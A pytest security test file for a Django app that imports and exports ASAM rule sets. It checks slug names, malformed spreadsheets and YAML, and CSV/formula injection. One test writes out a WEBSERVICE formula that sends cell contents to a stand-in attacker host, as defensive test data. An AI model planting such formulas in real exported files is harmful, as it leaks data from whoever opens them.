"""Rule-set files from the third attack run: names that are not slugs (N3), formulas in
exported cells (N11), hostile files that gave server errors (N8), and the export and import of
every shipped set in every format (N16)."""

import io
import json
import zipfile

import openpyxl
import pytest
import yaml
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse

from engine import RuleSetError, serialize
from rulesets.models import Condition, Rule, RuleSet
from rulesets.rows import rule_set_to_data
from rulesets.services import rule_set_clone, rule_set_export, rule_set_import
from rulesets.services.editing import rule_row_save
from rulesets.spreadsheet import data_from_workbook, workbook_bytes
from tests.placement.test_commands import run
from tests.security import xlsx_attacks as x

pytestmark = pytest.mark.django_db

SHIPPED = [
    ("asam3-default", 1),
    ("asam3-default", 2),
    ("asam3-default", 3),
    ("asam4-default", 1),
    ("asam4-default", 2),
    ("asam4-default", 3),
]


def counts():
    return RuleSet.objects.count(), Rule.objects.count(), Condition.objects.count()


def published_data(name="asam3-default"):
    return yaml.safe_load(
        rule_set_export(rule_set=RuleSet.objects.get(name=name, status="published"))
    )


def upload(client, name: str, body: bytes):
    return client.post(reverse("rules:import"), {"file": SimpleUploadedFile(name, body)})


# -- N16: every shipped set, every format -------------------------------------------------------


@pytest.mark.parametrize(("name", "version"), SHIPPED, ids=lambda v: str(v))
@pytest.mark.parametrize("fmt", ["yaml", "json", "xlsx"])
def test_every_shipped_set_exports_and_imports_in_every_format(
    name, version, fmt, rule_admin, client
):
    client.force_login(rule_admin)
    source = RuleSet.objects.get(name=name, version=version)
    response = client.get(reverse("rules:export", args=[name, version, fmt]))
    assert response.status_code == 200
    imported = upload(client, f"{name}.{fmt}", response.content)
    assert imported.status_code == 302, imported.content.decode()[:2000]
    draft = RuleSet.objects.filter(name=name).order_by("-version").first()
    assert draft.is_draft and draft.pk != source.pk
    before, after = rule_set_to_data(source), rule_set_to_data(draft)
    assert after == before  # nothing lost: every rule, condition, catalog entry and test case


def test_the_xlsx_round_trip_is_cell_for_cell(rule_admin):
    for name in ("asam3-default", "asam4-default"):
        data = rule_set_to_data(RuleSet.objects.get(name=name, status="published"))
        first = workbook_bytes(data)
        again = data_from_workbook(first)
        again.pop("_where")
        assert workbook_bytes(again) == first or _cells(workbook_bytes(again)) == _cells(first)


def _cells(raw: bytes) -> dict:
    wb = openpyxl.load_workbook(io.BytesIO(raw))
    return {ws.title: [[c.value for c in row] for row in ws.iter_rows()] for ws in wb}


# -- N11: exported cells are text, never formulas ------------------------------------------------


def test_rule_texts_that_look_like_formulas_export_as_text_and_import_exactly(rule_admin):
    published = RuleSet.objects.get(name="asam3-default", status="published")
    draft = rule_set_clone(rule_set=published, user=rule_admin)
    payloads = [
        '=WEBSERVICE("http://attacker.example/?x="&A1)',
        "+1+1",
        "-2+3",
        "@SUM(A1:A2)",
        "\tcmd",
    ]
    for i, text in enumerate(payloads):
        rule = Rule.objects.get(
            rule_set=draft, rule_id=["T-D2-2", "T-D2-3", "T-D3-2", "T-D3-3", "T-D5-3"][i]
        )
        data = next(r for r in rule_set_to_data(draft)["rules"] if r["id"] == rule.rule_id)
        fields = {k: data.get(k, "") for k in ("kind", "track", "level", "text", "note")}
        rule_row_save(
            rule_set=draft,
            rule=rule,
            fields={**fields, "rule_id": rule.rule_id, "text": text},
            when=data["when"],
        )
    raw = workbook_bytes(rule_set_to_data(draft))
    with zipfile.ZipFile(io.BytesIO(raw)) as z:
        sheets = [z.read(n) for n in z.namelist() if n.startswith("xl/worksheets/")]
    assert not any(b"<f>" in s or b"<f " in s for s in sheets)  # no formula anywhere
    cells = {
        c.value: c
        for ws in openpyxl.load_workbook(io.BytesIO(raw))
        for row in ws.iter_rows()
        for c in row
        if isinstance(c.value, str)
    }
    for text in payloads:
        assert cells[text].data_type == "s" and cells[text].quotePrefix
    back = data_from_workbook(raw)
    texts = {r["text"] for r in back["rules"]}
    assert set(payloads) <= texts  # the round trip is exact, formulas included as text
    back.pop("_where")
    assert rule_set_import(data=back, user=rule_admin).rules.filter(text=payloads[0]).exists()


# -- N3: names are slugs, at every import path ---------------------------------------------------

BAD_NAMES = ["asam3\u200f-default", "my rules", "ключ", "a" * 61, "x/y"]


@pytest.mark.parametrize("bad", BAD_NAMES, ids=["rlm", "space", "cyrillic", "long", "slash"])
def test_a_name_that_is_not_a_slug_is_refused_by_every_import_path(
    bad, rule_admin, client, tmp_path
):
    data = {**published_data(), "name": bad}
    before = counts()
    with pytest.raises(RuleSetError) as exc:
        rule_set_import(text=yaml.safe_dump(data), user=rule_admin)
    assert any("cannot be used" in p or "longer than 60" in p for p in exc.value.problems)
    client.force_login(rule_admin)
    for fname, body in (
        ("r.yaml", yaml.safe_dump(data).encode()),
        ("r.json", json.dumps(data).encode()),
        ("r.xlsx", workbook_bytes(data)),
    ):
        response = upload(client, fname, body)
        assert response.status_code == 400, fname
    path = tmp_path / "r.xlsx"
    path.write_bytes(workbook_bytes(data))
    code, out, _ = run("rules_import", str(path))
    assert code == 2 and out == ""
    assert counts() == before


def test_a_stored_name_that_is_not_a_slug_is_listed_not_crashed_on(rule_admin, client, superuser):
    RuleSet.objects.create(name="bad\u200fname x", edition="3", version=1)
    client.force_login(rule_admin)
    page = client.get(reverse("rules:list"))
    assert page.status_code == 200
    text = page.content.decode()
    assert "Rule sets whose name cannot be used" in text and "bad\\u200fname x" in text
    client.force_login(superuser)
    assert "open in administration" in client.get(reverse("rules:list")).content.decode()


# -- N8: hostile files are messages, never server errors ------------------------------------------


def _xlsx_with_rows(sheet: str, rows: dict[str, object]):
    """The default set's spreadsheet with some cells of ``sheet``'s first data row replaced."""

    def build():
        raw = x.exported()
        wb = openpyxl.load_workbook(io.BytesIO(raw))
        ws = wb[sheet]
        header = [c.value for c in ws[1]]
        for column, value in rows.items():
            ws.cell(2, header.index(column) + 1, value)
        out = io.BytesIO()
        wb.save(out)
        return out.getvalue()

    return build


def _condition_with(comparison: str, value):
    """A Conditions row testing an int question with ``value``."""

    def build():
        raw = x.exported()
        wb = openpyxl.load_workbook(io.BytesIO(raw))
        ws = wb["Conditions"]
        header = [c.value for c in ws[1]]
        for row in ws.iter_rows(min_row=2):
            if row[header.index("Question")].value == "craving_0_10":
                row[header.index("Comparison")].value = comparison
                row[header.index("Value")].value = value
                break
        out = io.BytesIO()
        wb.save(out)
        return out.getvalue()

    return build


def _broken_part(cell: bytes):
    def build():
        raw = x.exported()
        return x.with_parts(raw, {x.sheet_part(raw, "Flags"): x.broken_cells_sheet(cell)})

    return build


def _levels_xml(old: bytes, new: bytes):
    """The default set's spreadsheet with one cell of the Levels sheet rewritten in its XML."""

    def build():
        raw = x.exported()
        part = x.sheet_part(raw, "Levels")
        with zipfile.ZipFile(io.BytesIO(raw)) as z:
            xml = z.read(part)
        assert old in xml
        return x.with_parts(raw, {part: xml.replace(old, new, 1)})

    return build


def _bad_xml():
    raw = x.exported()
    return x.with_parts(raw, {x.sheet_part(raw, "Levels"): b"<worksheet><sheetData><row r='1'>"})


XLSX_CASES = {
    "bad XML": (_bad_xml, "The sheet 'Levels' is not well-formed XML"),
    "number cell holding text": (
        _broken_part(b'<c r="A2" t="n"><v>abc</v></c>'),
        "Sheet 'Flags', row 2: the cells cannot be read",
    ),
    "5,000-digit number cell": (
        _broken_part(b'<c r="A2"><v>' + b"9" * 5000 + b"</v></c>"),
        "Sheet 'Flags', row 2: the cells cannot be read",
    ),
    "date-typed cell": (
        _broken_part(b'<c r="A2" t="d"><v>not-a-date</v></c>'),
        "Sheet 'Flags', row 2: the cells cannot be read",
    ),
    "superscript two as a rating": (
        _xlsx_with_rows("Rating rules", {"Suggests at least": "\u00b2"}),
        "Sheet 'Rating rules', row 2: Rule R-D1-CIWA-MILD: rating \u00b2 is not on the D1 scale",
    ),
    "double minus as a rank": (
        _xlsx_with_rows("Levels", {"Order on the track": "--5"}),
        "Sheet 'Levels', row 2, column 'Order on the track': '--5' is not a whole number",
    ),
    "5,000-digit rating": (
        _xlsx_with_rows("Rating rules", {"Suggests at least": "9" * 5000}),
        "(R-D1-CIWA-MILD): 'rating' is longer than 10 characters",
    ),
    "5,000-digit rank": (
        _xlsx_with_rows("Levels", {"Order on the track": "9" * 5000}),
        "Sheet 'Levels', row 2, column 'Order on the track'",
    ),
    "inf in a comparison": (
        _condition_with("is at least", "inf"),
        "column 'Value': 'inf' is not a whole number",
    ),
    "1e400 in a comparison": (
        _condition_with("is at least", 1e400),  # openpyxl writes an infinite number as nothing
        "column 'Value': is empty",
    ),
    "1e400 as a number cell": (
        _levels_xml(b'<c r="C2" t="n"><v>0</v></c>', b'<c r="C2" t="n"><v>1e400</v></c>'),
        "Sheet 'Levels', row 2, column 'Order on the track': 'inf' is not a whole number",
    ),
    "1e400 as text in a comparison": (
        _condition_with("is at least", "1e400"),
        "column 'Value': '1e400' is not a whole number",
    ),
}


@pytest.mark.parametrize("name", sorted(XLSX_CASES))
def test_hostile_spreadsheets_are_messages_naming_sheet_row_and_column(name, rule_admin, client):
    build, message = XLSX_CASES[name]
    body = build()
    before = counts()
    client.force_login(rule_admin)
    response = upload(client, "rules.xlsx", body)
    assert response.status_code == 400
    page = response.content.decode()
    from django.utils.html import escape

    assert escape(message) in page, page[page.find("not imported") :][:1500]
    assert counts() == before


def _test_case(change):
    def build(data):
        data["tests"][0].update(change(data["tests"][0]))
        return data

    return build


YAML_CASES = {
    "a date in a test case": (
        lambda d: _test_case(lambda t: {"answers": {"date_of_birth": "2000-01-01"}})(d),
        lambda text: text.replace("date_of_birth: '2000-01-01'", "date_of_birth: 2000-01-01"),
        "answers 'date_of_birth' has the wrong type",
    ),
    "binary in a test case": (
        lambda d: _test_case(lambda t: {"answers": {"craving_0_10": "BINARY"}})(d),
        lambda text: text.replace("craving_0_10: BINARY", "craving_0_10: !!binary aGVsbG8="),
        "answers 'craving_0_10' has the wrong type",
    ),
    "a 40-character expected level": (
        lambda d: _test_case(lambda t: {"expect": {"level": "L" * 40}})(d),
        None,
        "'expect.level' must be a level code of at most 20 characters",
    ),
    "anchors that are not text": (
        lambda d: {
            **d,
            "dimensions": [
                {**d["dimensions"][0], "anchors": [{"a": 1}, 2, 3, 4, 5]},
                *d["dimensions"][1:],
            ],
        },
        None,
        "dimensions[0]: each item of 'anchors' must be text",
    ),
    "nested scale items": (
        lambda d: {
            **d,
            "dimensions": [
                {**d["dimensions"][0], "scale": [[0, 1], 2, 3, 4]},
                *d["dimensions"][1:],
            ],
        },
        None,
        "dimensions[0]: each item of 'scale' must be a rating code",
    ),
    "a lone surrogate in the name": (
        lambda d: d,
        lambda text: text.replace('"name": "asam3-default"', '"name": "asam3\\ud800"'),
        "cannot be used",
    ),
}


@pytest.mark.parametrize("name", sorted(YAML_CASES))
def test_hostile_yaml_and_json_are_messages_naming_the_field(name, rule_admin, client):
    change, text_change, message = YAML_CASES[name]
    data = change(published_data())
    as_json = name == "a lone surrogate in the name"
    text = json.dumps(data, indent=1) if as_json else yaml.safe_dump(data, sort_keys=False)
    if text_change:
        text = text_change(text)
    before = counts()
    client.force_login(rule_admin)
    response = upload(client, "rules.json" if as_json else "rules.yaml", text.encode())
    assert response.status_code == 400
    from django.utils.html import escape

    assert escape(message) in response.content.decode()
    assert counts() == before


@pytest.mark.parametrize("against", ["abc", "1.5", "-1", "99"])
def test_the_impact_page_refuses_a_version_that_is_not_one(against, rule_admin, client):
    client.force_login(rule_admin)
    url = reverse("rules:impact", args=["asam3-default", 2])
    response = client.post(url, {"against": against}, follow=True)
    assert response.status_code == 200
    assert "nothing was started" in response.content.decode()


def test_serialize_refuses_a_lone_surrogate_in_any_text():
    data = published_data()
    data["rules"][0]["text"] = "bad \ud800 text"
    with pytest.raises(RuleSetError) as exc:
        serialize.from_data(data)
    assert "contains a broken character" in exc.value.problems[0]
